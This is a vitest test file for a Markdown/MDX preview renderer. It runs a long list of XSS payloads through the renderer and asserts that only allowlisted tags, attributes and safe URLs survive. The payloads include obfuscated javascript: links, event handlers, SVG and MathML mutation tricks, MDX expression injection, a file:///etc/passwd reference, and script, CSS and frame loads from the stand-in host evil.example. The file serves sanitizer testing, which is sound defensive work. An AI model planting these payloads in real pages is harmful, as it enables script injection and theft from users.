import { expect, test } from "vitest";
import { renderPreview } from "../../server/src/preview/renderPreview.ts";
import { handbook, pageOf } from "../support/handbook.ts";
import { plain, posthog } from "../support/models.ts";

/** Attacks as a page may hold them; each is rendered as Markdown and as MDX. */
const attacks = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src="x" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="javascript:alert(1)">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61vascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](command:workbench.action.quit)",
  "[x](vscode://evil/x)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "<javascript:alert(1)>",
  '<a href="command:workbench.action.quit">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="https://x.example" onclick="alert(1)" target="_top" ping="https://evil.example">x</a>',
  '<a href="https://x.example" style="position:fixed;inset:0">x</a>',
  "<svg onload=alert(1)>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video src="x" onerror="alert(1)" poster="javascript:alert(1)"></video>',
  '<audio src="javascript:alert(1)" onloadstart=alert(1)></audio>',
  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="q" onfocus=alert(1) autofocus><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<textarea autofocus onfocus="alert(1)"></textarea>',
  '<select onfocus="alert(1)"><option>x</select>',
  '<details open ontoggle="alert(1)">x</details>',
  '<div onmouseover="alert(1)" style="background:url(javascript:alert(1))">x</div>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example/x">x</td></tr></table>',
  "<body onload=alert(1)>",
  "<html onclick=alert(1)>",
  '<marquee onstart="alert(1)">x</marquee>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img src=x onerror="alert(1)"></title>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '[x](/a "\\"onmouseover=alert(1) x=\\"")',
  '![" onerror="alert(1)](x.png)',
  "`<img src=x onerror=alert(1)>`",
  '```"><script>alert(1)</script>\nx\n```',
  "# <img src=x onerror=alert(1)>",
  "{alert(1)}",
  "{(() => { throw new Error('ran') })()}",
  '<a href={"javascript:alert(1)"}>x</a>',
  '<img src="x" onError={() => alert(1)} />',
  "<div dangerouslySetInnerHTML={{__html: '<img src=x onerror=alert(1)>'}} />",
  "<Evil {...alert(1)} />",
  '<Link to="javascript:alert(1)">x</Link>',
  "import 'https://evil.example/x.js'",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
  "\uE001\uE100\uE100<script>alert(1)</script>",
];

const allowedTags =
  /^(a|article|aside|b|blockquote|br|code|details|div|em|footer|h[1-6]|header|hr|img|input|li|ol|p|pre|section|span|strong|summary|sup|table|tbody|td|th|thead|tr|ul)$/;
const allowedAttributes =
  /^(align|alt|aria-[a-z]+|checked|class|data-(footnote-(ref|backref)|handbook-(href|reason|remote|src)|line|table)|disabled|href|id|open|role|src|tabindex|title|type)$/;

/** Reads HTML that rehype-stringify wrote: every attribute is in double quotes, every `<` in text escaped. */
function* tagsOf(html: string): Generator<{ tag: string; attributes: [string, string][] }> {
  for (const [, tag = "", rest = ""] of html.matchAll(/<([a-z][\w-]*)((?: [^\s"=>]+(?:="[^"]*")?)*)>/gi)) {
    const attributes = [...rest.matchAll(/ ([^\s"=>]+)(?:="([^"]*)")?/g)];
    yield { tag, attributes: attributes.map(([, name = "", value = ""]) => [name, value]) };
  }
}

async function render(text: string, mdx: boolean): Promise<string> {
  const path = mdx ? "contents/handbook/a.md" : "docs/a.md";
  const book = handbook(mdx ? posthog : plain, `\n//- ${path}\n${text}\n`);
  return (await renderPreview(book.site, pageOf(book, path), book.texts.get(path) ?? "")).html;
}

const cases = attacks.flatMap((attack) => [
  { attack, mdx: false },
  { attack, mdx: true },
]);

test.each(cases)("$attack cannot act in the preview (MDX: $mdx)", async ({ attack, mdx }) => {
  const html = await render(attack, mdx);
  // Nothing but well-formed tags: what is left once they are taken away has no `<`.
  expect(html.replace(/<\/?[a-z][\w-]*(?: [^\s"=>]+(?:="[^"]*")?)*>/gi, "")).not.toContain("<");
  for (const { tag, attributes } of tagsOf(html)) {
    expect(tag).toMatch(allowedTags);
    for (const [name, value] of attributes) {
      expect(name).toMatch(allowedAttributes);
      if (name === "href") expect(value).toMatch(/^(?:https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/i);
      if (name === "src") expect(value).toMatch(/^data:image\/(?:png|gif|jpeg|webp);base64,/i);
    }
  }
});

test("pixels in the address are shown", async () => {
  expect(await render("![x](data:image/png;base64,iVBORw0KGgo=)", false)).toContain(
    'src="data:image/png;base64,iVBORw0KGgo="',
  );
});

test("an id of the page cannot stand in for one of the panel", async () => {
  const html = await render(
    '<a id="preview-page" name="vscode"></a> <p id="body">x</p>\n\n## getElementById\n',
    false,
  );
  expect([...html.matchAll(/ (?:id|name)="([^"]+)"/g)].map((match) => match[1])).toEqual([
    "user-content-preview-page",
    "user-content-body",
    "user-content-getelementbyid",
  ]);
});

test("marks of ours cannot be forged by a page", async () => {
  const html = await render(
    '<a href="/a" data-handbook-href="command:x" data-handbook-reason="x" data-line="9" class="handbook-external evil">x</a>\n<img data-handbook-src="file:///etc/passwd" data-handbook-remote="https://evil.example">',
    false,
  );
  expect(html).not.toMatch(/command:|etc\/passwd|evil/);
});
